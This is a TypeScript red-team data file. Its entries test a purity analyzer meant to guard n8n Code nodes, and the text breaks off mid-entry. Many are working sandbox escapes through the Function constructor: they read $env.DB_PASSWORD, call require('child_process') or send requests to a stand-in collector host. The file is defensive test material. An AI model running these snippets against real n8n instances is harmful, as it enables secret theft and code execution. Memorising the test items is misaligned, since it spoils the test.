// Round 17 of the code-purity red team, against the points-to analysis (src/validate/purity), treated as a
// black box: only analyzeSource() was called, its source and documentation were not read. Every entry was
// run through ./n8n-sandbox.ts (n8n's runner flags, hardened host) on Node 20, the node24 entries on Node
// 24.21.0 as n8n 2.41.1 runs it (JSON.parse source text access, DisposableStack).
//
// ROUND17_BYPASSES: the oracle obtains a capability, analyzeSource() returns no finding. 4 classes:
//   in-place-reindex (Array.prototype.sort / shift / unshift / splice moving values between indices),
//   async-generator-return-await (an async generator's return operand is awaited),
//   collection-ctor-adder (Map/Set/WeakMap/WeakSet constructors call a subclass's set/add),
//   json-reviver-context (Node 24: JSON.parse's reviver context argument).
// ROUND17_CAUGHT: the oracle obtains a capability and the analysis reports it (attempts it stopped).
// ROUND17_FALSE_POSITIVES: everyday bodies that obtain nothing, which the analysis reports.
// ROUND17_PURE: everyday bodies that obtain nothing and that the analysis proves pure.
import type { RedTeamBypass, RedTeamFalsePositive } from './bypasses.js';
import type { N8nCodeMode } from './n8n-sandbox.js';

export interface Round17Entry extends RedTeamBypass {
  /** The Code node mode the entry was written for (default runOnceForAllItems). */
  mode?: N8nCodeMode;
}

export interface Round17FalsePositive extends RedTeamFalsePositive {
  mode?: N8nCodeMode;
}

export interface Round17Pure {
  id: string;
  code: string;
  mode?: N8nCodeMode;
  node24?: true;
}

export const ROUND17_BYPASSES: Round17Entry[] = [
  {
    "id": "reindex/sort-literal-F",
    "cls": "in-place-reindex",
    "code": "const a = ['z', (() => 0).constructor];\na.sort();\nreturn [{ json: { g: a[0]('return this')() } }];",
    "why": "Array.prototype.sort, shift, unshift and splice move elements between indices in place (on an array, and generically on any array-like object, the arguments object or a class instance): the value at one index ends up at another. The analysis keeps what it knows per constant index through these calls (reverse and copyWithin are followed, these four are not), so an index that held a clean value before the call is still clean after it, although it now holds what another index held. Here: the default sort puts the Function constructor (stringified 'function Function...' < 'z') at index 0; a[0] compiles `return this`. The oracle obtains: global object returned."
  },
  {
    "id": "reindex/shift-env",
    "cls": "in-place-reindex",
    "code": "const a = [1, (() => 0).constructor];\na.shift();\nreturn [{ json: { e: a[0]('return $env.DB_PASSWORD')() } }];",
    "why": "Array.prototype.sort, shift, unshift and splice move elements between indices in place (on an array, and generically on any array-like object, the arguments object or a class instance): the value at one index ends up at another. The analysis keeps what it knows per constant index through these calls (reverse and copyWithin are followed, these four are not), so an index that held a clean value before the call is still clean after it, although it now holds what another index held. Here: shift moves index 1 to index 0; $env.DB_PASSWORD is read. The oracle obtains: $env.DB_PASSWORD read, $env secret returned."
  },
  {
    "id": "reindex/unshift-http",
    "cls": "in-place-reindex",
    "code": "const a = [(() => 0).constructor];\na.unshift(1);\nconst G = a[1]('return this')();\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "Array.prototype.sort, shift, unshift and splice move elements between indices in place (on an array, and generically on any array-like object, the arguments object or a class instance): the value at one index ends up at another. The analysis keeps what it knows per constant index through these calls (reverse and copyWithin are followed, these four are not), so an index that held a clean value before the call is still clean after it, although it now holds what another index held. Here: unshift moves index 0 to index 1; helpers.httpRequest is called. The oracle obtains: helpers.httpRequest called."
  },
  {
    "id": "reindex/splice-arraylike-require",
    "cls": "in-place-reindex",
    "code": "const o = { 0: 1, 1: (() => 0).constructor, length: 2 };\nArray.prototype.splice.call(o, 0, 1);\ntry { o[0]('return require')()('child_process'); } catch {}\nreturn [{ json: { ok: 1 } }];",
    "why": "Array.prototype.sort, shift, unshift and splice move elements between indices in place (on an array, and generically on any array-like object, the arguments object or a class instance): the value at one index ends up at another. The analysis keeps what it knows per constant index through these calls (reverse and copyWithin are followed, these four are not), so an index that held a clean value before the call is still clean after it, although it now holds what another index held. Here: splice on a plain array-like object; require is called. The oracle obtains: require called."
  },
  {
    "id": "reindex/splice-insert-arraylike",
    "cls": "in-place-reindex",
    "code": "const o = { 0: (() => 0).constructor, length: 1 };\nArray.prototype.splice.call(o, 0, 0, 1);\nreturn [{ json: { g: o[1]('return this')() } }];",
    "why": "Array.prototype.sort, shift, unshift and splice move elements between indices in place (on an array, and generically on any array-like object, the arguments object or a class instance): the value at one index ends up at another. The analysis keeps what it knows per constant index through these calls (reverse and copyWithin are followed, these four are not), so an index that held a clean value before the call is still clean after it, although it now holds what another index held. Here: an insertion with splice shifts index 0 to index 1 of a plain array-like. The oracle obtains: global object returned."
  },
  {
    "id": "reindex/sort-rows-env",
    "cls": "in-place-reindex",
    "code": "const rows = [{ name: 'x' }, { f: (() => 0).constructor }];\nrows.sort((a, b) => (a.f ? -1 : 1));\nreturn [{ json: { g: rows[0].f('return $env.DB_PASSWORD')() } }];",
    "why": "Array.prototype.sort, shift, unshift and splice move elements between indices in place (on an array, and generically on any array-like object, the arguments object or a class instance): the value at one index ends up at another. The analysis keeps what it knows per constant index through these calls (reverse and copyWithin are followed, these four are not), so an index that held a clean value before the call is still clean after it, although it now holds what another index held. Here: a comparator sort of row objects brings the row holding F to index 0; $env.DB_PASSWORD is read. The oracle obtains: $env.DB_PASSWORD read, $env secret returned."
  },
  {
    "id": "reindex/sort-arguments-F",
    "cls": "in-place-reindex",
    "code": "function f() { Array.prototype.sort.call(arguments, (a, b) => (typeof a === 'function' ? -1 : 1)); return arguments[0]; }\nreturn [{ json: { g: f(1, (() => 0).constructor)('return this')() } }];",
    "why": "Array.prototype.sort, shift, unshift and splice move elements between indices in place (on an array, and generically on any array-like object, the arguments object or a class instance): the value at one index ends up at another. The analysis keeps what it knows per constant index through these calls (reverse and copyWithin are followed, these four are not), so an index that held a clean value before the call is still clean after it, although it now holds what another index held. Here: sorting the arguments object. The oracle obtains: global object returned."
  },
  {
    "id": "reindex/sort-class-instance",
    "cls": "in-place-reindex",
    "code": "class L { constructor() { this[0] = 1; this[1] = (() => 0).constructor; this.length = 2; } }\nconst o = new L();\nArray.prototype.sort.call(o, (a, b) => (typeof a === 'function' ? -1 : 1));\nreturn [{ json: { g: o[0]('return this')() } }];",
    "why": "Array.prototype.sort, shift, unshift and splice move elements between indices in place (on an array, and generically on any array-like object, the arguments object or a class instance): the value at one index ends up at another. The analysis keeps what it knows per constant index through these calls (reverse and copyWithin are followed, these four are not), so an index that held a clean value before the call is still clean after it, although it now holds what another index held. Here: sorting a class instance used as an array-like. The oracle obtains: global object returned."
  },
  {
    "id": "reindex/shift-destructure",
    "cls": "in-place-reindex",
    "code": "const a = [0, (() => 0).constructor];\na.shift();\nconst [f] = a;\nreturn [{ json: { g: f('return this')() } }];",
    "why": "Array.prototype.sort, shift, unshift and splice move elements between indices in place (on an array, and generically on any array-like object, the arguments object or a class instance): the value at one index ends up at another. The analysis keeps what it knows per constant index through these calls (reverse and copyWithin are followed, these four are not), so an index that held a clean value before the call is still clean after it, although it now holds what another index held. Here: the shifted array is destructured. The oracle obtains: global object returned."
  },
  {
    "id": "reindex/each-item-shift-env",
    "cls": "in-place-reindex",
    "mode": "runOnceForEachItem",
    "code": "const parts = [$json.name, (() => 0).constructor];\nparts.shift();\nreturn { json: { e: parts[0]('return $env.DB_PASSWORD')() } };",
    "why": "Array.prototype.sort, shift, unshift and splice move elements between indices in place (on an array, and generically on any array-like object, the arguments object or a class instance): the value at one index ends up at another. The analysis keeps what it knows per constant index through these calls (reverse and copyWithin are followed, these four are not), so an index that held a clean value before the call is still clean after it, although it now holds what another index held. Here: written for Run Once for Each Item. The oracle obtains: $env.DB_PASSWORD read, $env secret returned."
  },
  {
    "id": "asyncgen/return-thenable-F",
    "cls": "async-generator-return-await",
    "code": "async function* g() { return { then(r) { r((() => 0).constructor); } }; }\nconst { value } = await g().next();\nreturn [{ json: { g: value('return this')() } }];",
    "why": "An async generator awaits the operand of its return (a `return x` in its body, also in a finally block, and the value handed to its .return(x) method): a returned promise or thenable is unwrapped and the {value, done} result carries what it resolves to. The analysis does not resolve that operand (it does for yield, yield*, for await and an async function's return), so the value a thenable hands to its resolve function, or the value inside a returned promise, is lost. Here: a thenable returned from the body resolves to the Function constructor. The oracle obtains: global object returned."
  },
  {
    "id": "asyncgen/return-promise-env",
    "cls": "async-generator-return-await",
    "code": "async function* g() { return Promise.resolve((() => 0).constructor); }\nconst { value } = await g().next();\nreturn [{ json: { e: value('return $env.DB_PASSWORD')() } }];",
    "why": "An async generator awaits the operand of its return (a `return x` in its body, also in a finally block, and the value handed to its .return(x) method): a returned promise or thenable is unwrapped and the {value, done} result carries what it resolves to. The analysis does not resolve that operand (it does for yield, yield*, for await and an async function's return), so the value a thenable hands to its resolve function, or the value inside a returned promise, is lost. Here: a promise returned from the body; $env.DB_PASSWORD is read. The oracle obtains: $env.DB_PASSWORD read, $env secret returned."
  },
  {
    "id": "asyncgen/return-method-http",
    "cls": "async-generator-return-await",
    "code": "async function* g() { yield 1; }\nconst { value } = await g().return({ then(r) { r((() => 0).constructor); } });\nconst G = value('return this')();\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "An async generator awaits the operand of its return (a `return x` in its body, also in a finally block, and the value handed to its .return(x) method): a returned promise or thenable is unwrapped and the {value, done} result carries what it resolves to. The analysis does not resolve that operand (it does for yield, yield*, for await and an async function's return), so the value a thenable hands to its resolve function, or the value inside a returned promise, is lost. Here: the thenable is handed to the generator object's .return(); helpers.httpRequest is called. The oracle obtains: helpers.httpRequest called."
  },
  {
    "id": "asyncgen/for-await-finally-require",
    "cls": "async-generator-return-await",
    "code": "async function* g() { try { yield 1; } finally { return Promise.resolve((() => 0).constructor); } }\nconst it = g();\nawait it.next();\nconst { value } = await it.return(0);\ntry { value('return require')()('child_process'); } catch {}\nreturn [{ json: { ok: 1 } }];",
    "why": "An async generator awaits the operand of its return (a `return x` in its body, also in a finally block, and the value handed to its .return(x) method): a returned promise or thenable is unwrapped and the {value, done} result carries what it resolves to. The analysis does not resolve that operand (it does for yield, yield*, for await and an async function's return), so the value a thenable hands to its resolve function, or the value inside a returned promise, is lost. Here: a return in a finally block overrides the .return(0); require is called. The oracle obtains: require called."
  },
  {
    "id": "asyncgen/each-item-env",
    "cls": "async-generator-return-await",
    "mode": "runOnceForEachItem",
    "code": "async function* g() { return { then: (r) => r((() => 0).constructor) }; }\nconst { value } = await g().next();\nreturn { json: { e: value('return $env.DB_PASSWORD')() } };",
    "why": "An async generator awaits the operand of its return (a `return x` in its body, also in a finally block, and the value handed to its .return(x) method): a returned promise or thenable is unwrapped and the {value, done} result carries what it resolves to. The analysis does not resolve that operand (it does for yield, yield*, for await and an async function's return), so the value a thenable hands to its resolve function, or the value inside a returned promise, is lost. Here: written for Run Once for Each Item. The oracle obtains: $env.DB_PASSWORD read, $env secret returned."
  },
  {
    "id": "adder/set-subclass-F",
    "cls": "collection-ctor-adder",
    "code": "let h;\nclass S extends Set { add(v) { h = v; return this; } }\nnew S([(() => 0).constructor]);\nreturn [{ json: { g: h('return this')() } }];",
    "why": "The Map, Set, WeakMap and WeakSet constructors add each element of their iterable by calling `this.set(k, v)` / `this.add(v)` looked up on the new object, so a subclass's own set/add is called with the iterable's elements. The analysis does not connect the constructor's iterable to that method's parameters, so what the method receives is clean. Here: Set's constructor calls S.prototype.add with the Function constructor. The oracle obtains: global object returned."
  },
  {
    "id": "adder/weakset-subclass-env",
    "cls": "collection-ctor-adder",
    "code": "let h;\nclass S extends WeakSet { add(v) { h = v; return this; } }\nnew S([(() => 0).constructor]);\nreturn [{ json: { e: h('return $env.DB_PASSWORD')() } }];",
    "why": "The Map, Set, WeakMap and WeakSet constructors add each element of their iterable by calling `this.set(k, v)` / `this.add(v)` looked up on the new object, so a subclass's own set/add is called with the iterable's elements. The analysis does not connect the constructor's iterable to that method's parameters, so what the method receives is clean. Here: WeakSet; $env.DB_PASSWORD is read. The oracle obtains: $env.DB_PASSWORD read, $env secret returned."
  },
  {
    "id": "adder/weakmap-subclass-http",
    "cls": "collection-ctor-adder",
    "code": "let h;\nclass M extends WeakMap { set(k, v) { h = v; return this; } }\nnew M([[{}, (() => 0).constructor]]);\nconst G = h('return this')();\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "The Map, Set, WeakMap and WeakSet constructors add each element of their iterable by calling `this.set(k, v)` / `this.add(v)` looked up on the new object, so a subclass's own set/add is called with the iterable's elements. The analysis does not connect the constructor's iterable to that method's parameters, so what the method receives is clean. Here: WeakMap's constructor calls M.prototype.set(key, value); helpers.httpRequest is called. The oracle obtains: helpers.httpRequest called."
  },
  {
    "id": "adder/map-subclass-require",
    "cls": "collection-ctor-adder",
    "code": "let h;\nclass M extends Map { set(k, v) { h = v; return super.set(k, v); } }\nnew M([['k', (() => 0).constructor]]);\ntry { h('return require')()('child_process'); } catch {}\nreturn [{ json: { ok: 1 } }];",
    "why": "The Map, Set, WeakMap and WeakSet constructors add each element of their iterable by calling `this.set(k, v)` / `this.add(v)` looked up on the new object, so a subclass's own set/add is called with the iterable's elements. The analysis does not connect the constructor's iterable to that method's parameters, so what the method receives is clean. Here: Map, the value argument of set; require is called. The oracle obtains: require called."
  },
  {
    "id": "adder/map-subclass-this-F",
    "cls": "collection-ctor-adder",
    "code": "class M extends Map { set(k, v) { this.last = v; return super.set(k, v); } }\nconst m = new M(Object.entries({ a: (() => 0).constructor }));\nreturn [{ json: { g: m.last('return this')() } }];",
    "why": "The Map, Set, WeakMap and WeakSet constructors add each element of their iterable by calling `this.set(k, v)` / `this.add(v)` looked up on the new object, so a subclass's own set/add is called with the iterable's elements. The analysis does not connect the constructor's iterable to that method's parameters, so what the method receives is clean. Here: the subclass's set stores its argument on the instance (this.last). The oracle obtains: global object returned."
  },
  {
    "id": "adder/each-item-env",
    "cls": "collection-ctor-adder",
    "mode": "runOnceForEachItem",
    "code": "let h;\nclass S extends Set { add(v) { if (typeof v === 'function') h = v; return super.add(v); } }\nnew S([$json.name, (() => 0).constructor]);\nreturn { json: { e: h('return $env.DB_PASSWORD')() } };",
    "why": "The Map, Set, WeakMap and WeakSet constructors add each element of their iterable by calling `this.set(k, v)` / `this.add(v)` looked up on the new object, so a subclass's own set/add is called with the iterable's elements. The analysis does not connect the constructor's iterable to that method's parameters, so what the method receives is clean. Here: written for Run Once for Each Item. The oracle obtains: $env.DB_PASSWORD read, $env secret returned."
  },
  {
    "id": "jsonctx/ctx-store-F",
    "cls": "json-reviver-context",
    "node24": true,
    "code": "let c;\nJSON.parse('1', (key, v, ctx) => { c = ctx; return v; });\nc.f = (() => 0).constructor;\nreturn [{ json: { g: c.f('return this')() } }];",
    "why": "On Node 24 (n8n 2.41's), JSON.parse calls its reviver with a third argument, a context object { source } (the source text of a primitive value). The analysis gives that parameter nothing (an empty set of values): a key sliced out of context.source, and a value written to the context object and read back later, are both empty, so neither is seen. (On Node 20 the argument is undefined and these snippets throw.) Here: the context object is kept, F is written to it and read back. The oracle obtains: global object returned."
  },
  {
    "id": "jsonctx/source-key-F",
    "cls": "json-reviver-context",
    "node24": true,
    "code": "let k;\nJSON.parse('[\"constructor\"]', function (key, v, ctx) { if (key === '0') k = ctx.source.slice(1, -1); return v; });\nreturn [{ json: { g: (() => 0)[k]('return this')() } }];",
    "why": "On Node 24 (n8n 2.41's), JSON.parse calls its reviver with a third argument, a context object { source } (the source text of a primitive value). The analysis gives that parameter nothing (an empty set of values): a key sliced out of context.source, and a value written to the context object and read back later, are both empty, so neither is seen. (On Node 20 the argument is undefined and these snippets throw.) Here: the key 'constructor' is sliced out of context.source. The oracle obtains: global object returned."
  },
  {
    "id": "jsonctx/arguments-source-env",
    "cls": "json-reviver-context",
    "node24": true,
    "code": "let k;\nJSON.parse('[\"constructor\"]', function () { if (arguments[0] === '0') k = arguments[2].source.slice(1, -1); return arguments[1]; });\nreturn [{ json: { e: (() => 0)[k]('return $env.DB_PASSWORD')() } }];",
    "why": "On Node 24 (n8n 2.41's), JSON.parse calls its reviver with a third argument, a context object { source } (the source text of a primitive value). The analysis gives that parameter nothing (an empty set of values): a key sliced out of context.source, and a value written to the context object and read back later, are both empty, so neither is seen. (On Node 20 the argument is undefined and these snippets throw.) Here: the context is read as arguments[2]; $env.DB_PASSWORD is read. The oracle obtains: $env.DB_PASSWORD read, $env secret returned."
  },
  {
    "id": "jsonctx/each-item-http",
    "cls": "json-reviver-context",
    "mode": "runOnceForEachItem",
    "node24": true,
    "code": "let c;\nJSON.parse(JSON.stringify($json.id), (key, v, ctx) => { c = ctx; return v; });\nc.f = (() => 0).constructor;\nconst G = c.f('return this')();\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn { json: { ok: 1 } };",
    "why": "On Node 24 (n8n 2.41's), JSON.parse calls its reviver with a third argument, a context object { source } (the source text of a primitive value). The analysis gives that parameter nothing (an empty set of values): a key sliced out of context.source, and a value written to the context object and read back later, are both empty, so neither is seen. (On Node 20 the argument is undefined and these snippets throw.) Here: written for Run Once for Each Item; helpers.httpRequest is called. The oracle obtains: helpers.httpRequest called."
  }
];

export const ROUND17_CAUGHT: Round17Entry[] = [
  {
    "id": "caught/regexp-legacy-$1",
    "cls": "runtime-key",
    "code": "/(.+)/.exec('constructor');\nconst k = RegExp.$1;\nreturn [{ json: { g: (() => 0)[k]('return this')() } }];",
    "why": "the legacy static RegExp.$1 gives the key constructor: the oracle obtains global object returned; reported. First finding: \"`(() => 0)[k]('return this')` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it)\""
  },
  {
    "id": "caught/regexp-legacy-lastMatch",
    "cls": "runtime-key",
    "code": "/c\\w+/.test('a constructor');\nconst k = RegExp.lastMatch;\nreturn [{ json: { g: (() => 0)[k]('return this')() } }];",
    "why": "RegExp.lastMatch gives the key: the oracle obtains global object returned; reported. First finding: \"`(() => 0)[k]('return this')` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it)\""
  },
  {
    "id": "caught/regexp-legacy-input-write",
    "cls": "runtime-key",
    "code": "RegExp.input = 'constructor';\nconst k = RegExp.input;\nreturn [{ json: { g: (() => 0)[k]('return this')() } }];",
    "why": "RegExp.input written then read as a key: the oracle obtains global object returned; reported. First finding: \"`RegExp.input` may be RegExp\""
  },
  {
    "id": "caught/regexp-legacy-rightContext",
    "cls": "runtime-key",
    "code": "/x/.test('xconstructor');\nconst k = RegExp.rightContext;\nreturn [{ json: { g: (() => 0)[k]('return this')() } }];",
    "why": "RegExp.rightContext gives the key: the oracle obtains global object returned; reported. First finding: \"`(() => 0)[k]('return this')` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it)\""
  },
  {
    "id": "caught/symbol-keyFor",
    "cls": "runtime-key",
    "code": "const k = Symbol.keyFor(Symbol.for('constructor'));\nreturn [{ json: { g: (() => 0)[k]('return this')() } }];",
    "why": "Symbol.keyFor of the registry gives the key: the oracle obtains global object returned; reported. First finding: \"`(() => 0)[k]('return this')` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it)\""
  },
  {
    "id": "caught/normalize-nfkc",
    "cls": "runtime-key",
    "code": "const k = '\\uFF43onstructor'.normalize('NFKC');\nreturn [{ json: { g: (() => 0)[k]('return this')() } }];",
    "why": "NFKC folds a fullwidth c into the key: the oracle obtains global object returned; reported. First finding: \"`(() => 0)[k]('return this')` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it)\""
  },
  {
    "id": "caught/string-raw-hostile-raw",
    "cls": "runtime-key",
    "code": "const k = String.raw({ raw: { length: 2, 0: 'constr', 1: 'uctor' } });\nreturn [{ json: { g: (() => 0)[k]('return this')() } }];",
    "why": "String.raw over an array-like raw object: the oracle obtains global object returned; reported. First finding: \"`(() => 0)[k]('return this')` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it)\""
  },
  {
    "id": "caught/jsonctx-source-reparsed",
    "cls": "json-reviver-context",
    "node24": true,
    "code": "let k;\nJSON.parse('{\"a\":\"constructor\"}', (key, v, { source }) => { if (key === 'a') k = JSON.parse(source); return v; });\nreturn [{ json: { g: (() => 0)[k]('return this')() } }];",
    "why": "the context source re-parsed with JSON.parse: the oracle obtains global object returned; reported. First finding: \"`(() => 0)[k]('return this')` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it)\""
  },
  {
    "id": "caught/fromEntries-plain-entry",
    "cls": "builtin-stores",
    "code": "const o = Object.fromEntries([{ 0: 'k', 1: (() => 0).constructor }]);\nreturn [{ json: { g: o.k('return this')() } }];",
    "why": "Object.fromEntries of a plain {0,1} entry: the oracle obtains global object returned; reported. First finding: \"`o.k('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/fromEntries-generator",
    "cls": "builtin-stores",
    "code": "const o = Object.fromEntries((function* () { yield ['k', (() => 0).constructor]; })());\nreturn [{ json: { g: o.k('return this')() } }];",
    "why": "Object.fromEntries of a generator: the oracle obtains global object returned; reported. First finding: \"`o.k('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/fromEntries-arguments-entry",
    "cls": "builtin-stores",
    "code": "function e() { return arguments; }\nconst o = Object.fromEntries([e('k', (() => 0).constructor)]);\nreturn [{ json: { g: o.k('return this')() } }];",
    "why": "an arguments object as the entry: the oracle obtains global object returned; reported. First finding: \"`o.k('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/map-iterator-before-set",
    "cls": "builtin-stores",
    "code": "const m = new Map();\nconst it = m.entries();\nm.set('k', (() => 0).constructor);\nconst [, f] = it.next().value;\nreturn [{ json: { g: f('return this')() } }];",
    "why": "a Map iterator taken before the set sees the entry: the oracle obtains global object returned; reported. First finding: \"`f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/array-iterator-before-push",
    "cls": "builtin-stores",
    "code": "const a = [];\nconst it = a.values();\na.push((() => 0).constructor);\nconst f = it.next().value;\nreturn [{ json: { g: f('return this')() } }];",
    "why": "an array iterator taken before the push: the oracle obtains global object returned; reported. First finding: \"`f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/weakmap-set-get",
    "cls": "builtin-stores",
    "code": "const wm = new WeakMap();\nconst key = {};\nwm.set(key, (() => 0).constructor);\nreturn [{ json: { g: wm.get(key)('return this')() } }];",
    "why": "WeakMap set then get: the oracle obtains global object returned; reported. First finding: \"`wm.get(key)('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/reverse-arraylike",
    "cls": "in-place-reindex",
    "code": "const o = { 0: 1, 1: (() => 0).constructor, length: 2 };\nArray.prototype.reverse.call(o);\nreturn [{ json: { g: o[0]('return this')() } }];",
    "why": "reverse moves between indices (modelled): the oracle obtains global object returned; reported. First finding: \"`o[0]('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/copyWithin-literal",
    "cls": "in-place-reindex",
    "code": "const a = [1, (() => 0).constructor];\na.copyWithin(0, 1);\nreturn [{ json: { g: a[0]('return this')() } }];",
    "why": "copyWithin (modelled): the oracle obtains global object returned; reported. First finding: \"`a[0]('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/toReversed-arraylike",
    "cls": "in-place-reindex",
    "code": "const a = Array.prototype.toReversed.call({ length: 2, 0: 1, 1: (() => 0).constructor });\nreturn [{ json: { g: a[0]('return this')() } }];",
    "why": "toReversed over an array-like: the oracle obtains global object returned; reported. First finding: \"`a[0]('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/toSorted-literal",
    "cls": "in-place-reindex",
    "code": "const a = ['z', (() => 0).constructor];\nconst b = a.toSorted();\nreturn [{ json: { g: b[0]('return this')() } }];",
    "why": "toSorted (a new array): the oracle obtains global object returned; reported. First finding: \"`b[0]('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/splice-removed",
    "cls": "in-place-reindex",
    "code": "const a = [1, (() => 0).constructor];\nreturn [{ json: { g: a.splice(1, 1)[0]('return this')() } }];",
    "why": "splice's returned removed elements: the oracle obtains global object returned; reported. First finding: \"`a.splice(1, 1)[0]('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/pop-literal",
    "cls": "in-place-reindex",
    "code": "const a = [1, (() => 0).constructor];\nreturn [{ json: { g: a.pop()('return this')() } }];",
    "why": "pop of the last index: the oracle obtains global object returned; reported. First finding: \"`a.pop()('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/with-assign-prop",
    "cls": "scope",
    "code": "let f = null;\nconst o = { f: 0 };\nwith (o) { f = (() => 0).constructor; }\nreturn [{ json: { g: o.f('return this')() } }];",
    "why": "an assignment in with writes the object property: the oracle obtains global object returned; reported. First finding: \"a with statement (every name in it may be a property of its object)\""
  },
  {
    "id": "caught/with-var-init",
    "cls": "scope",
    "code": "const o = { f: 0 };\nwith (o) { var f = (() => 0).constructor; }\nreturn [{ json: { g: o.f('return this')() } }];",
    "why": "a var initialiser in with writes the object property: the oracle obtains global object returned; reported. First finding: \"a with statement (every name in it may be a property of its object)\""
  },
  {
    "id": "caught/for-await-thenable",
    "cls": "async-generator-return-await",
    "code": "let f;\nfor await (const x of [{ then(r) { r((() => 0).constructor); } }]) f = x;\nreturn [{ json: { g: f('return this')() } }];",
    "why": "for await unwraps a thenable element: the oracle obtains global object returned; reported. First finding: \"`f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/asyncgen-yield-thenable",
    "cls": "async-generator-return-await",
    "code": "async function* g() { yield { then(r) { r((() => 0).constructor); } }; }\nconst { value } = await g().next();\nreturn [{ json: { g: value('return this')() } }];",
    "why": "an async generator awaits what it yields: the oracle obtains global object returned; reported. First finding: \"`value('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/asyncgen-yield-star-sync",
    "cls": "async-generator-return-await",
    "code": "async function* g() { yield* [{ then(r) { r((() => 0).constructor); } }]; }\nconst { value } = await g().next();\nreturn [{ json: { g: value('return this')() } }];",
    "why": "yield* over a sync iterable of thenables: the oracle obtains global object returned; reported. First finding: \"`value('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/asyncgen-yield-star-return",
    "cls": "async-generator-return-await",
    "code": "async function* inner() { return { then(r) { r((() => 0).constructor); } }; }\nasync function* outer() { const v = yield* inner(); yield v; }\nconst { value } = await outer().next();\nreturn [{ json: { g: value('return this')() } }];",
    "why": "yield*'s value is an inner async generator's awaited return: the oracle obtains global object returned; reported. First finding: \"`value('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/data-alias-node-input",
    "cls": "n8n-data-proxy",
    "code": "$node.Webhook.json.f = (() => 0).constructor;\nreturn [{ json: { g: $input.first().json.f('return this')() } }];",
    "why": "$node.Webhook.json is $input.first().json: the oracle obtains global object returned; reported. First finding: \"`$input.first().json.f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/data-alias-paired-data",
    "cls": "n8n-data-proxy",
    "code": "$('Webhook').pairedItem().json.f = (() => 0).constructor;\nreturn [{ json: { g: $data.f('return this')() } }];",
    "why": "$('Webhook').pairedItem().json is $data: the oracle obtains global object returned; reported. First finding: \"`$data.f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/data-each-item-cross-run",
    "cls": "n8n-data-proxy",
    "mode": "runOnceForEachItem",
    "code": "if ($itemIndex === 0) { $input.all()[1].json.f = (() => 0).constructor; return { json: {} }; }\nreturn { json: { g: $json.f('return this')() } };",
    "why": "item 0's run writes item 1's json, read as $json in item 1's run: the oracle obtains global object returned; reported. First finding: \"`$json.f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/console-store",
    "cls": "n8n-data-proxy",
    "code": "console.f = (() => 0).constructor;\nreturn [{ json: { g: console.f('return this')() } }];",
    "why": "a property stored on the console object: the oracle obtains global object returned; reported. First finding: \"`console.f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/disposablestack-move",
    "cls": "builtin-stores",
    "node24": true,
    "code": "let h;\nconst s = new DisposableStack();\ns.adopt((() => 0).constructor, (v) => { h = v; });\nconst s2 = s.move();\ns2.dispose();\nreturn [{ json: { g: h('return this')() } }];",
    "why": "adopt, then move() to a new stack, then dispose: the oracle obtains global object returned; reported. First finding: \"`a function handed to DisposableStack.prototype.adopt` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it)\""
  },
  {
    "id": "caught/asyncdisposablestack-adopt",
    "cls": "builtin-stores",
    "node24": true,
    "code": "let h;\nconst s = new AsyncDisposableStack();\ns.adopt((() => 0).constructor, async (v) => { h = v; });\nawait s.disposeAsync();\nreturn [{ json: { g: h('return this')() } }];",
    "why": "AsyncDisposableStack.adopt: the oracle obtains global object returned; reported. First finding: \"`a function handed to AsyncDisposableStack.prototype.adopt` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it)\""
  },
  {
    "id": "caught/getter-array-from-length",
    "cls": "implicit-call",
    "code": "let h = () => 0;\nArray.from({ get length() { h = (() => 0).constructor; return 0; } });\nreturn [{ json: { g: h('return this')() } }];",
    "why": "a length getter run by Array.from: the oracle obtains global object returned; reported. First finding: \"`h('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/getter-intl-options",
    "cls": "implicit-call",
    "code": "let h = () => 0;\nnew Intl.NumberFormat('en', { get style() { h = (() => 0).constructor; return 'decimal'; } });\nreturn [{ json: { g: h('return this')() } }];",
    "why": "an options getter run by Intl.NumberFormat: the oracle obtains global object returned; reported. First finding: \"`h('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/store-typedarray",
    "cls": "builtin-stores",
    "code": "const t = new Uint8Array(2);\nt.f = (() => 0).constructor;\nreturn [{ json: { g: t.f('return this')() } }];",
    "why": "a named property on a typed array: the oracle obtains global object returned; reported. First finding: \"`t.f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/store-iterator-result",
    "cls": "builtin-stores",
    "code": "const r = [1].values().next();\nr.f = (() => 0).constructor;\nreturn [{ json: { g: r.f('return this')() } }];",
    "why": "a property on an iterator result object: the oracle obtains global object returned; reported. First finding: \"`r.f('return this')` may be the Function constructor\""
  },
  {
    "id": "caught/store-replace-groups",
